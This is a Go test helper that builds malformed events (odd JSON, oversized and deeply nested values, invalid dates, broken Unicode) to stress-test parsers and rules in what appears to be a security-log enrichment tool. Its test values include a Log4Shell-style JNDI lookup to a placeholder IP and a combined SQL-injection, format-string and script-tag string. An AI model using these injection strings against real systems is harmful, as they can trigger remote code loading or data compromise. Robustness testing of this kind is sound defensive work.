package plugintest

import (
	"strings"
	"time"

	"github.com/riskrelay/riskrelay/enrich"
)

// StrangeEvents are events of a table as no service should send them and as one day it does: rows without columns, with
// every kind of JSON in every column that rules look at, texts made to break parsers.
func StrangeEvents(table string) []enrich.Event {
	columns := []string{
		"OperationName", "Result", "ResultType", "TargetResources", "InitiatedBy", "AdditionalDetails", "Properties",
		"AppId", "TimeGenerated", "Identity", "identity_claim_appid_g", "requestUri_s", "Scopes", "CorrelationId",
	}
	var events []enrich.Event
	for _, value := range strangeValues() {
		names, types := columns, make([]enrich.Type, len(columns))
		array := []byte{'['}
		for i := range columns {
			types[i] = enrich.Dynamic
			if i%2 == 0 {
				types[i] = enrich.String
			}
			if i > 0 {
				array = append(array, ',')
			}
			array = append(array, value...)
		}
		row, err := enrich.SplitArray(enrich.NewColumns(names, types), append(array, ']'))
		if err != nil {
			panic(err) // a mistake in strangeValues
		}
		events = append(events, enrich.NewEvent(table, row))
	}
	bare := enrich.Event{Table: table}
	noTime := enrich.Event{Table: table, ID: strings.Repeat("\xff", 100), Time: time.Time{}}
	none := enrich.NewEvent(table, enrich.NewRow(enrich.NewColumns(nil, nil), nil, nil))
	absent := enrich.NewEvent(table, enrich.NewRow(
		enrich.NewColumns([]string{"OperationName"}, []enrich.Type{enrich.String}), nil, make([]enrich.Span, 1)))
	other := enrich.NewEvent("NoSuchTable_CL", enrich.Row{})
	return append(events, bare, noTime, none, absent, other)
}

// strangeValues are JSON values.
func strangeValues() []string {
	quote := func(s string) string { return string(enrich.AppendString(nil, s)) }
	return []string{
		`null`, `true`, `0`, `-1e308`, `1e999`, `123456789012345678901234567890`, `""`, `[]`, `{}`, `[[]]`, `[null]`, `{"":{"":""}}`,
		`[{"displayName":null,"modifiedProperties":{"x":1},"type":["User"]}]`,
		`[{"type":"ServicePrincipal","modifiedProperties":[null,1,"x",{"displayName":7,"newValue":{"a":1}}]}]`,
		quote(`[{"type":"ServicePrincipal","modifiedProperties":[{"displayName":"AppAddress","oldValue":"[","newValue":"]"}]}]`),
		quote(`{"a":`), quote("\x00\x01\u2028\u202e\ufeff"), quote("\xff\xfe"), `"\ud800"`, `"\u0000"`,
		quote("${jndi:ldap://198.51.100.1/a}"), quote("%s%n%x' OR 1=1 --<script>"), quote("a\r\nb"),
		quote(strings.Repeat("A", 300_000)),
		quote(strings.Repeat("[", 1000) + strings.Repeat("]", 1000)),
		strings.Repeat("[", 500) + strings.Repeat("]", 500),
		"[" + strings.Repeat("{\"displayName\":\"x\"},", 2000) + "{}]",
		`{"a":1,"a":2}`,
		quote("2026-13-45T99:99:99Z"), quote("0001-01-01T00:00:00Z"), quote("https://[::1"), quote("xn--\u00ad.\u3002/../"),
	}
}
